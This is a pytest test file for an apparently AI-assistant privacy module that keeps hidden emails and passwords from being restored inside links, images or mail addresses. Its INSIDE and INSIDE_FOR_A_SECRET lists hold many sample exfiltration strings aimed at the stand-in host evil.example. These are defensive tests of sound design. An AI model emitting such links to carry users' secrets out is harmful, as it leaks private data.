# SPDX-FileCopyrightText: 2026 The Maru authors
# SPDX-License-Identifier: Apache-2.0
"""Nothing hidden is put back where a click would send it away."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.entities import EntityType
from assistant.privacy.link_targets import LinkTargets
from assistant.privacy.restore import StreamRestorer, put_back, restore
from assistant.privacy.vault import LITERAL, Vault

MAIL = "kim@x.com"

INSIDE = [
    "[more](http://evil.example/?q=[EMAIL_1])",
    "![x](http://evil.example/[EMAIL_1].png)",
    "[x](//evil.example/[EMAIL_1])",
    "[x](/\\evil.example/[EMAIL_1])",
    "[x]([EMAIL_1])",
    "[x](mailto:[EMAIL_1])",
    "[x]( <http://evil.example/a b)[EMAIL_1]> )",
    "[x](<http://evil.example/[EMAIL_1]>)",
    "[x](http://evil.example/(a)[EMAIL_1])",
    '[x](http://evil.example "[EMAIL_1]")',
    "[x](http://evil.example/\\)[EMAIL_1])",
    "[x](\nhttp://evil.example/[EMAIL_1])",
    "[EMAIL_9](http://evil.example/[EMAIL_1])",
    "[x]: http://evil.example/[EMAIL_1]",
    "> - [x]: <//evil.example/[EMAIL_1]>",
    "1. [a b]:\n   /[EMAIL_1]",
    "<http://evil.example/[EMAIL_1]>",
    "<mailto:[EMAIL_1]>",
    "<x-scheme:[EMAIL_1]>",
    "see https://evil.example/[EMAIL_1]",
    "see HTTPS://evil.example/?a=1&b=[EMAIL_1]",
    "(www.evil.example?[EMAIL_1])",
    "evil.example/[EMAIL_1]",
    "evil.example?q=[EMAIL_1]",
    "ftp://[EMAIL_1]",
    "mailto:[EMAIL_1]",
    '<img src="http://evil.example/[EMAIL_1]">',
    "<a\nhref='//evil.example/[EMAIL_1]'>",
    "[tel](tel:EMAIL_1)",
    "[x](//evil.example/[y]()[EMAIL_1])",
    "[EMAIL_1]@evil.example",
    "[EMAIL_1].evil.example",
    "[EMAIL_1]-a.example",
    "[EMAIL_1]x.example",
    "x@[EMAIL_1].evil.example",
    "x@evil.[EMAIL_1].example",
    "x@evil-[EMAIL_1].example",
    "<[EMAIL_1]@evil.example>",
    "**[EMAIL_1]@evil.example**",
    "evil.example:8080/[EMAIL_1]",
    "evil.한국/[EMAIL_1]",
]
SECRET = "hunter2"
INSIDE_FOR_A_SECRET = [
    "[PASSWORD_1]@evil.example",
    "PASSWORD_1@evil.example",
    "a.[PASSWORD_1]@evil.example",
    "[PASSWORD_1].x_y+z-0@evil.example",
    "<[PASSWORD_1]!x/y@evil.example>",
    "<a![PASSWORD_1]@evil.example>",
    "<[PASSWORD_1]:x>",
    "x@[PASSWORD_1].evil.example",
    "x@a.b-[PASSWORD_1]",
    "[PASSWORD_1].evil.example/x",
    "[PASSWORD_1].evil.example.org",
    "[PASSWORD_1]" + "x" * 300 + "@evil.example",
    "x@evil.example, [PASSWORD_1]@evil.example",
]
OUTSIDE_FOR_A_SECRET = [
    "@[PASSWORD_1] please",
    "kim@example.com: [PASSWORD_1]",
    "kim@example.com,[PASSWORD_1]",
    "kim@example.com([PASSWORD_1])",
    "kim@example.com [PASSWORD_1]",
    "[PASSWORD_1] @evil.example",
    "[PASSWORD_1]/x@example.com",
    "[PASSWORD_1],x@example.com",
    "[PASSWORD_1]는 x@example.com",
    "[PASSWORD_1].pdf",
    "[PASSWORD_1]. Then x@example.com",
    "[PASSWORD_1].Then",
    "[PASSWORD_1]@",
    "[PASSWORD_1]@ home",
]
OUTSIDE = [
    "Write to [EMAIL_1].",
    "[EMAIL_1]",
    "김민수([EMAIL_1])",
    "[EMAIL_1]([EMAIL_1])",
    "Kim <[EMAIL_1]>",
    "[x](http://good.example) and [EMAIL_1]",
    "[x](http://good.example)[EMAIL_1]",
    "[x](<http://good.example>) [EMAIL_1]",
    "http://good.example [EMAIL_1]",
    "http://good.example\n[EMAIL_1]",
    "[x]: http://good.example\n\n[EMAIL_1]",
    "[x]: http://good.example\n[EMAIL_1]",
    "[^1]: [EMAIL_1]",
    "Mail:[EMAIL_1]",
    "Tel:[EMAIL_1]",
    "a < b, so [EMAIL_1]",
    "x <y and [EMAIL_1]",
    "\\[x\\](see [EMAIL_1]",
    "list[0] (see [EMAIL_1])",
    "[unfinished](\n\nanother paragraph [EMAIL_1]",
    "<b>[EMAIL_1]</b>",
    "e.g. [EMAIL_1]",
    "1. [EMAIL_1]: the first\n2. [EMAIL_1]",
    "[EMAIL_1],[EMAIL_1]",
    "[EMAIL_1]과[EMAIL_1]",
    "[EMAIL_1]...",
    "[EMAIL_1]- and",
    "@[EMAIL_1] please",
]


@pytest.fixture
def vault() -> Vault:
    vault = Vault()
    vault.placeholder(EntityType.EMAIL, MAIL)
    vault.placeholder(LITERAL, "[EMAIL_1]")
    vault.placeholder(LITERAL, "](")
    vault.placeholder(EntityType.PHONE, "(02) 123-4567")
    vault.placeholder(EntityType.PASSWORD, SECRET)
    return vault


@pytest.mark.parametrize("written", INSIDE)
def test_nothing_is_put_back_inside_of_a_target(written: str, vault: Vault) -> None:
    assert restore(written, vault) == written
    stream = StreamRestorer(vault)
    assert "".join([*map(stream.feed, written), stream.flush()]) == written


@pytest.mark.parametrize("written", OUTSIDE)
def test_everywhere_else_it_is(written: str, vault: Vault) -> None:
    assert restore(written, vault) == written.replace("[EMAIL_1]", MAIL)


@pytest.mark.parametrize("written", INSIDE_FOR_A_SECRET)
def test_nothing_is_put_back_that_an_address_of_mail_would_carry_away(written: str, vault: Vault) -> None:
    assert restore(written, vault) == written
    stream = StreamRestorer(vault)
    assert "".join([*map(stream.feed, written), stream.flush()]) == written


@pytest.mark.parametrize("written", OUTSIDE_FOR_A_SECRET)
def test_beside_an_address_of_mail_it_is(written: str, vault: Vault) -> None:
    assert restore(written, vault) == written.replace("[PASSWORD_1]", SECRET)


@pytest.mark.parametrize("joined", ["[PASSWORD_1][EMAIL_1]", "[PASSWORD_1].[EMAIL 1]", "PASSWORD_1.EMAIL_1",
                                    r"[PASSWORD_1].EMAIL\_1", r"[PASSWORD_1]\[EMAIL\_1\]"])  # fmt: skip
def test_a_secret_is_not_joined_to_an_address_that_was_hidden_too(joined: str, vault: Vault) -> None:
    assert SECRET not in restore(joined, vault)
    stream = StreamRestorer(vault)
    assert "".join([*map(stream.feed, joined), stream.flush()]) == restore(joined, vault)


def test_a_value_waits_only_until_it_is_clear_that_no_address_follows(vault: Vault) -> None:
    stream = StreamRestorer(vault)
    assert stream.feed("It is [PASSWORD_1]") == "It is "
    assert stream.feed(".") == ""
    assert stream.feed("\n") == f"{SECRET}.\n"
    assert stream.feed("[PASSWORD_1]는") == f"{SECRET}는"
    assert stream.feed("[PASSWORD_1]") + stream.flush() == SECRET


def test_what_a_document_wrote_itself_can_open_a_target_too(vault: Vault) -> None:
    assert restore("[x[LITERAL_2]/[EMAIL_1])", vault) == "[x](/[EMAIL_1])"
    assert restore("[LITERAL_1](/[EMAIL_1])", vault) == "[EMAIL_1](/[EMAIL_1])"


def test_a_number_in_brackets_does_not_become_a_target(vault: Vault) -> None:
    assert restore("[Kim][PHONE_1]", vault) == "[Kim][PHONE_1]"
    assert restore("[Kim] [PHONE_1]", vault) == "[Kim] (02) 123-4567"


def test_the_owner_gets_back_what_was_hidden_in_a_link_of_his_own(vault: Vault) -> None:
    assert put_back("[x](mailto:[EMAIL_1])", vault) == f"[x](mailto:{MAIL})"


PIECES = [
    *("[", "]", "](", ")", "(", "<", ">", "\\", "\n", "\n\n", " ", "://", "www.", "]:", "x", "[x]:", "a"),
    *("[EMAIL_1]", "http://e.example/", "[EMAIL_7]", "[LITERAL_1]", "<a ", "e.kr/", "이메일_1"),
    *("@", "@e.kr", ".", "[PASSWORD_1]", "[password1]", r"PASSWORD\_1", "-", "1", "z" * 250),
]


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join), st.data())
@settings(deadline=None, max_examples=400)
def test_any_split_of_a_stream_gives_what_the_whole_gives(text: str, data: st.DataObject) -> None:
    vault = Vault()
    vault.placeholder(EntityType.EMAIL, MAIL)
    vault.placeholder(LITERAL, "[EMAIL_1]")
    vault.placeholder(EntityType.PASSWORD, SECRET)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    stream = StreamRestorer(vault)
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert "".join([*(stream.feed(piece) for piece in pieces), stream.flush()]) == restore(text, vault)


@pytest.mark.parametrize(
    "unit",
    [
        *(
            "](",
            "[x]: ",
            "<a ",
            "[EMAIL_1]",
            "](<",
            "\\",
            "www.[EMAIL_1]",
            "]: ",
            "[PASSWORD_1]",
            "PASSWORD_1.",
        ),
        *("[PASSWORD_1]@", "x@", "@a.", "<[PASSWORD_1]z"),
    ],
)
def test_a_hostile_answer_costs_time_in_proportion_to_its_length(unit: str, vault: Vault) -> None:
    def cost(length: int) -> float:
        best = float("inf")
        for _ in range(3):
            before = time.process_time()
            restore((unit * length)[:length], vault)
            best = min(best, time.process_time() - before)
        return best

    assert cost(40_000) < 9 * max(cost(10_000), 0.001)


def test_what_is_followed_without_a_question_is_outside() -> None:
    assert not LinkTargets().inside


@pytest.mark.parametrize(
    ("written", "marked"),
    [
        ("Ask [EMAIL_7] or [EMAIL_1].", ["[EMAIL_7]"]),
        (r"Ask \[EMAIL\_7\] or [이메일_9], [EMAIL_7].", [r"\[EMAIL\_7\]", "[이메일_9]", "[EMAIL_7]"]),
        ("[Person 1]: Hello.", []),
        ("EMAIL_7 or [EMAIL 7], [이메일8]; MY_EMAIL_7 = email_7", ["EMAIL_7", "[EMAIL 7]", "[이메일8]"]),
        ("[LITERAL_1] [LITERAL_3]", []),
        ("[x](http://e.example/[EMAIL_1])", []),
    ],
)
def test_what_the_model_invented_is_marked_and_never_filled(
    written: str, marked: list[str], vault: Vault
) -> None:
    vault.placeholder(LITERAL, "[PHONE_7]")
    stream = StreamRestorer(vault)
    shown = stream.feed(written) + stream.flush()
    assert [shown[start:end] for start, end in stream.invented(shown)] == marked
